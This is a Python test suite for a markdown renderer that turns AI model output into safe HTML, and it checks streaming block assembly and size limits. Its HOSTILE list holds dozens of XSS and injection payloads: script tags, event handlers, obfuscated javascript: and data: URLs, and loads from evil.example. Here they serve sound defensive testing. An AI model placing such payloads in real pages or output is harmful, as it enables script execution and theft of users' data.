"""Markdown of models as HTML: whatever a model says, nothing of it runs, loads or acts."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.each import each
from tieline.web.blocks import Blocks, finished
from tieline.web.markdown import LANGUAGES, MAX_COLOURED, MAX_PROSE, MAX_TEXT, SAME_AS, plain, render

ELEMENTS = frozenset(
    re.findall(
        r"\w+", "a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul"
    )
)
ATTRIBUTES = {
    "a": {"class", "href", "target", "rel"},
    "span": {"class", "title"},
    "pre": {"class", "data-language"},
    "code": {"class"},
    "ol": {"start"},
    "td": {"class"},
    "th": {"class"},
}
LINK = re.compile(r"(https?://|mailto:)[^\s]", re.IGNORECASE)


class Reader(HTMLParser):
    """Reads HTML and remembers what is in it; anything that is not plain raises."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.depth: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        assert tag in ELEMENTS, tag
        assert set(given) <= ATTRIBUTES.get(tag, set()), (tag, given)
        if tag == "a":
            assert LINK.match(given["href"]), given
            assert (given["target"], given["rel"]) == ("_blank", "noopener noreferrer nofollow")
        if tag == "ol":
            assert given.get("start", "0").isdecimal()
        self.elements.append((tag, given))
        if tag not in ("br", "hr"):
            self.depth.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        assert tag in ("br", "hr"), tag

    def handle_endtag(self, tag: str) -> None:
        assert self.depth.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


def read(text: str) -> Reader:
    """The HTML of a text, which must be harmless and whole."""
    reader = Reader()
    reader.feed(render(text))
    reader.close()
    assert reader.depth == []
    return reader


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=https://evil.example/x.swf>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=x><button>send</button></form>",
    "<video src=https://evil.example/x autoplay onplay=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- comment --><b>bold</b>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ftp://evil.example)",
    "[x](//evil.example/x)",
    "[x](/api/sessions)",
    "[x](#top)",
    "[x](https:evil)",
    "[x](https://)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onmouseover="alert(1)>',
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example/<script>)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](https://a.example)",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x]\n\n[x]: https://a.example "on\' mouse="',
    "![x]\n\n[x]: https://evil.example/pixel.png",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "~~~\n</pre><img src=x onerror=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    'https://a.example/"><script>alert(1)</script>',
    "https://a.example/'onmouseover='alert(1)",
    "javascript://a.example/%0aalert(1)",
    "HTTPS://A.EXAMPLE/x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u2028<script>\u2029alert(1)</script>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "**<b onclick=alert(1)>x</b>**",
    "~~<s onclick=alert(1)>~~",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


@each("text", HOSTILE)
def test_hostile_markdown_becomes_plain_elements(text: str) -> None:
    """`read` raises for every element, attribute and address that is not among those we mean."""
    read(text)


@each("text", HOSTILE)
def test_hostile_markdown_is_as_harmless_in_pieces(text: str) -> None:
    blocks = Blocks()
    for piece in (f"Before.\n\n{text}", "\n\nAfter.\n\n", text):
        blocks.add(piece)
        if cut := finished(blocks.look(), is_all=False):
            blocks.cut(cut)
    if cut := finished(blocks.look(), is_all=True):
        blocks.cut(cut)
    reader = Reader()
    reader.feed(blocks.html)
    reader.close()


@given(st.text(alphabet="<>\"'&;:/\\[]()!`~*_#|-=+ \n\tjavscriptonerdata@.x01", max_size=200))
@example('[a](b"c)')
@example("\\\n0")
def test_no_text_at_all_becomes_anything_else(text: str) -> None:
    read(text)


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert "".join(read("<b>bold</b> & <i>more</i>").words).strip() == "<b>bold</b> & <i>more</i>"


def test_a_picture_is_a_link_to_it() -> None:
    [_, (tag, attributes)] = read("![a cat](https://example.com/cat.png)").elements
    assert (tag, attributes["href"], attributes["class"]) == ("a", "https://example.com/cat.png", "image")


def test_a_picture_in_a_link_is_no_link_in_a_link() -> None:
    elements = [tag for tag, _ in read("[![x](https://a.example/p.png)](https://b.example)").elements]
    assert elements == ["p", "a", "span"]


def test_a_path_is_shown_and_leads_nowhere() -> None:
    reader = read("See [the file](src/app.py).")
    assert ("span", {"class": "path", "title": "src/app.py"}) in reader.elements


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("see https://example.com/a.", "https://example.com/a"),
        ("(https://example.com/a_(b))", "https://example.com/a_(b)"),
        ("**https://example.com/**", "https://example.com/"),
        ("<https://example.com/x>", "https://example.com/x"),
        ("[words](https://example.com/?a=1&b=2)", "https://example.com/?a=1&b=2"),
        ("<me@example.com>", "mailto:me@example.com"),
    ],
)
def test_addresses_are_links(text: str, href: str) -> None:
    assert [given["href"] for tag, given in read(text).elements if tag == "a"] == [href]


def test_an_address_in_code_is_no_link() -> None:
    assert "a" not in [tag for tag, _ in read("`https://example.com`\n\n    https://example.com").elements]


# ── Code ─────────────────────────────────────────────────────────────────────────────────────────


def test_code_is_coloured_by_classes_alone() -> None:
    html = render("```python\ndef f(x):\n    return 'y'\n```")
    assert '<pre class="hl" data-language="python"><code><span class="k">def</span>' in html
    assert "style=" not in html
    assert "".join(read("```python\ndef f(x):\n    return 'y'\n```").words).strip() == "def f(x):\n    return 'y'"


@pytest.mark.parametrize("language", ["", "nonsense", "python-but-not", "../../etc/passwd", "x" * 500, "{.python}"])
def test_code_in_a_language_nobody_knows_is_plain(language: str) -> None:
    reader = read(f"```{language}\nx < y & z\n```")
    assert "".join(reader.words).strip() == "x < y & z"
    assert [tag for tag, _ in reader.elements] == ["pre", "code"]


@each("language", sorted({SAME_AS.get(name, name) for name in LANGUAGES} - {"plaintext"}))
def test_code_keeps_every_character(language: str) -> None:
    code = '\n\nif (a < b && c) {\n\treturn "<x>"; // é 日本 😀\n}\n  \n'
    assert "".join(read(f"```{language}\n{code}```").words).strip("\n") == code.strip("\n")


def test_leading_empty_lines_of_code_stay() -> None:
    assert "".join(read("```python\n\n\nx = 1\n```").words).startswith("\n\nx = 1")


# ── Size ─────────────────────────────────────────────────────────────────────────────────────────

LONG = {
    "brackets": "[" * MAX_TEXT,
    "links": "[a](" * (MAX_TEXT // 4),
    "pictures": "![" * (MAX_TEXT // 2),
    "stars": "*a " * (MAX_TEXT // 3),
    "unders": "_a_ " * (MAX_TEXT // 4),
    "ticks": "".join("`" * number + " " for number in range(700)),
    "quotes": ">" * MAX_TEXT,
    "entities": "&a" * (MAX_TEXT // 2),
    "angles": "<a" * (MAX_TEXT // 2),
    "tables": "|a" * (MAX_TEXT // 4) + "\n" + "|-" * (MAX_TEXT // 4),
    "one word": "x" * MAX_TEXT,
    "code": "```python\n" + "x = 1\n" * (MAX_TEXT // 6 - 4) + "```",
}


@each("name", LONG)
def test_a_shape_that_could_take_for_ever_does_not(name: str) -> None:
    """The square of these lengths would be minutes."""
    read(LONG[name])


def test_what_is_too_long_is_plain_text() -> None:
    reader = read("# Title\n\n" + "word <b> " * (MAX_TEXT // 8))
    assert [tag for tag, _ in reader.elements] == ["pre"]


@pytest.mark.parametrize("mark", ["> ", "- ", "1. ", "> - "])
def test_what_stands_too_deep_is_plain_and_nothing_is_lost(mark: str) -> None:
    text = f"before\n\n{mark * 40}deep\n\nbehind"
    html = render(text)
    assert html == plain(text)
    shallow = render(f"before\n\n{mark * 4}deep\n\nbehind")
    assert "<pre" not in shallow
    assert all(word in shallow for word in ("before", "deep", "behind"))


def test_a_paragraph_that_is_too_long_is_plain_and_its_neighbours_are_not() -> None:
    reader = read("# Title\n\n" + "*word* " * MAX_PROSE + "\n\n*end*")
    assert [tag for tag, _ in reader.elements] == ["h1", "p", "p", "em"]


def test_long_code_is_not_coloured() -> None:
    html = render("```python\n" + "x = 1\n" * (MAX_COLOURED // 5) + "```")
    assert "<span" not in html


# ── Blocks as they finish ────────────────────────────────────────────────────────────────────────


def grow(text: str, sizes: list[int]) -> Blocks:
    """The blocks of a text that comes in pieces of these sizes, over and over."""
    blocks, place, turn = Blocks(), 0, 0
    while place < len(text):
        size = sizes[turn % len(sizes)]
        blocks.add(text[place : place + size])
        place, turn = place + size, turn + 1
        if blocks.is_due and (piece := finished(blocks.look(), is_all=False)):
            blocks.cut(piece)
    return blocks


def complete(blocks: Blocks) -> str:
    if piece := finished(blocks.look(), is_all=True):
        blocks.cut(piece)
    return blocks.html


PLAIN_LINES = [
    "",
    "",
    "",
    "text",
    "text  ",
    "- a",
    "  b",
    "    c",
    "1. x",
    "2. y",
    "# h",
    "---",
    "===",
    "\tx",
    "* z",
    "<b>",
]
ODD_LINES = ["```", "```py", "~~~", "|a|b|", "|-|-|", "a|b", "-|-", "   - in", "+ k", "\\", "> q", "> - l", ">", "  "]
LINES = st.sampled_from([*PLAIN_LINES, *ODD_LINES])


@given(st.lists(LINES, max_size=14), st.lists(st.integers(1, 9), min_size=1, max_size=20))
@example(["1. x", "", "1. x"], [1])
def test_blocks_together_are_the_whole(lines: list[str], sizes: list[int]) -> None:
    text = "\n".join(lines)
    blocks = grow(text, sizes)
    assert complete(blocks) == render(text)
    assert blocks.until == len(text)


@each(
    ("text", "until"),
    [
        ("A paragraph", 0),
        ("A paragraph\n", 0),
        ("A paragraph\n\n", 13),
        ("One\n\nTwo", 5),
        ("# Title\n\nwords", 9),
        ("- a\n- b\n", 0),
        ("- a\n- b\n\nwords\n", 9),
        ("1. a\n\n2", 0),
        ("```py\nx = 1\n", 0),
        ("```py\nx = 1\n\n\ny", 0),
        ("```py\nx = 1\n```\n\n", 17),
        ("```py\nx = 1\n```\nwords\n", 16),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n", 0),
        ("> a\n> b\n\n", 9),
        ("Title\n===\n", 0),
    ],
)
def test_where_the_unfinished_rest_begins(text: str, until: int) -> None:
    blocks = Blocks()
    blocks.add(text)
    piece = finished(blocks.look(), is_all=False)
    assert (blocks.cut(piece).until if piece else 0) == until


def test_blocks_are_numbered_and_never_change() -> None:
    blocks = grow("# One\n\nTwo\n\n- three\n- four\n\nFive\n\n", [1])
    seen = list(blocks.done)
    complete(blocks)
    assert blocks.done[: len(seen)] == seen
    assert [block.number for block in blocks.done] == list(range(len(blocks.done)))
    assert len(seen) >= 3


def test_a_reference_that_comes_later_makes_blocks_depend_on_it() -> None:
    blocks = grow("See [x].\n\n[x]: https://a.example\n\nEnd", [5])
    complete(blocks)
    assert not blocks.is_independent


def test_a_long_unfinished_block_is_not_looked_at_all_the_time() -> None:
    blocks = Blocks()
    looks = 0
    blocks.add("```\n")
    for _ in range(20_000):
        blocks.add("x = 1\n")
        if blocks.is_due:
            looks += 1
            blocks.look()
    assert looks < 400
